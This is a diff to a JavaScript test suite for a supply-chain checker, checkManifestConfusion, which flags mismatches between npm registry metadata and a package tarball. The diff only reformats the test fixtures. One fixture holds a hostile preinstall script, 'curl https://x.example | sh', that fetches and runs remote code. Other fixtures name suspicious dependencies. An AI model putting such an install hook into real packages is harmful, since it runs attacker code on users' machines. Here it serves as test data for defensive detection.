@@ -31,7 +31,13 @@ describe('checkManifestConfusion', () => {
   });
 
   it('reports a hidden install script, a hidden dependency, a different version and a hidden bin', () => {
-    const registry = { name: 'left-pad-plus', version: '1.1.0', scripts: { test: 'node test.js' }, dependencies: { 'is-odd': '^3.0.0' }, bin: {} };
+    const registry = {
+      name: 'left-pad-plus',
+      version: '1.1.0',
+      scripts: { test: 'node test.js' },
+      dependencies: { 'is-odd': '^3.0.0' },
+      bin: {},
+    };
     const signals = checkManifestConfusion(registry, { ...tarball, dependencies: { 'is-odd': '^3.0.0', 'evil-helper': '1.0.0' } });
     expect(signals.map((s) => [s.id, s.severity, s.evidence.value])).toEqual([
       ['manifest-confusion.version', 'high', '1.2.0'],
@@ -50,7 +56,13 @@ describe('checkManifestConfusion', () => {
   });
 
   it('reports a different name and dependencies the tarball dropped (medium)', () => {
-    const registry = { name: 'left-pad', version: '1.2.0', scripts: tarball.scripts, dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0', extra: '1' }, bin: { 'left-pad-plus': 'bin/cli.js' } };
+    const registry = {
+      name: 'left-pad',
+      version: '1.2.0',
+      scripts: tarball.scripts,
+      dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0', extra: '1' },
+      bin: { 'left-pad-plus': 'bin/cli.js' },
+    };
     expect(checkManifestConfusion(registry, tarball).map((s) => [s.id, s.severity, s.message])).toEqual([
       ['manifest-confusion.name', 'high', 'registry says name "left-pad", the tarball\'s package.json says "left-pad-plus"'],
       ['manifest-confusion.dependencies', 'medium', 'registry and tarball dependencies differ (1 difference(s))'],
@@ -58,7 +70,12 @@ describe('checkManifestConfusion', () => {
   });
 
   it('compares abbreviated metadata by its hasInstallScript flag', () => {
-    const abbreviated = { name: 'left-pad-plus', version: '1.2.0', dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0' }, bin: { 'left-pad-plus': 'bin/cli.js' } };
+    const abbreviated = {
+      name: 'left-pad-plus',
+      version: '1.2.0',
+      dependencies: { 'is-odd': '^3.0.0', fsevents: '^2.3.0' },
+      bin: { 'left-pad-plus': 'bin/cli.js' },
+    };
     expect(checkManifestConfusion(abbreviated, tarball).map((s) => [s.id, s.severity, s.evidence.value])).toEqual([
       ['manifest-confusion.scripts', 'high', 'postinstall: node setup.js'],
     ]);
@@ -67,7 +84,12 @@ describe('checkManifestConfusion', () => {
 
   it('reports a changed lifecycle script and a changed dependency range', () => {
     const registry = { name: 'x', version: '1.0.0', scripts: { preinstall: 'node check.js' }, dependencies: { a: '^1.0.0' } };
-    const signals = checkManifestConfusion(registry, { name: 'x', version: '1.0.0', scripts: { preinstall: 'node check.js && curl https://x.example | sh' }, dependencies: { a: 'github:evil/a' } });
+    const signals = checkManifestConfusion(registry, {
+      name: 'x',
+      version: '1.0.0',
+      scripts: { preinstall: 'node check.js && curl https://x.example | sh' },
+      dependencies: { a: 'github:evil/a' },
+    });
     expect(signals.map((s) => [s.id, s.severity, s.message])).toEqual([
       ['manifest-confusion.scripts', 'high', 'registry and tarball disagree on the "preinstall" script'],
       ['manifest-confusion.dependencies', 'high', 'registry and tarball dependencies differ (1 difference(s))'],
